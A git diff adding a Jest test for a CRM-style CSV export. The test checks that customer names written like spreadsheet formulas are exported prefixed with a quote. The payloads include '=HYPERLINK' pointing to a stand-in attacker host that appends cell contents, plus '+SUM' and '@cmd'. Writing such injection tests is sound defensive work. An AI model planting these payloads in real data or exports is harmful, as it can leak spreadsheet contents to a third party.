@@ -1,6 +1,7 @@
 import { randomUUID } from 'node:crypto';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import {
+  CreateCustomerDocument,
   CreateProductDocument,
   CreateQuotesDocument,
   Customer360Document,
@@ -407,6 +408,25 @@ describe('bulk upserts of leads and interactions, round-tripped through the expo
     const rows = parseCsv(csv.text);
     expect(rows).toHaveLength(2000);
     expect(JSON.parse(rows.find((row) => row.id === ids[7])!.properties!)).toEqual({ url: '/cars/7', note: 'a, "quoted" value' });
+  });
+});
+
+describe('the export as a spreadsheet opens it', () => {
+  it('writes a customer named like a formula as text, so that opening the file runs nothing', async () => {
+    const tag = `Formula${randomUUID().slice(0, 8)}`;
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,2)', '@cmd'];
+    for (const firstName of names) {
+      await executeOk(platform.gatewayUrl, CreateCustomerDocument, {
+        input: { kind: 'PERSON', firstName, lastName: 'Formula', industry: tag, emails: [], phones: [] },
+      });
+    }
+    const csv = await exportList({ query: `{ customers(filter: { industry: "${tag}" }) { edges { node { firstName lastName } } } }`, format: 'csv' });
+    expect(csv.status).toBe(200);
+    expect(
+      parseCsv(csv.text)
+        .map((row) => row.firstName)
+        .sort(),
+    ).toEqual(names.map((name) => `'${name}`).sort());
   });
 });
 
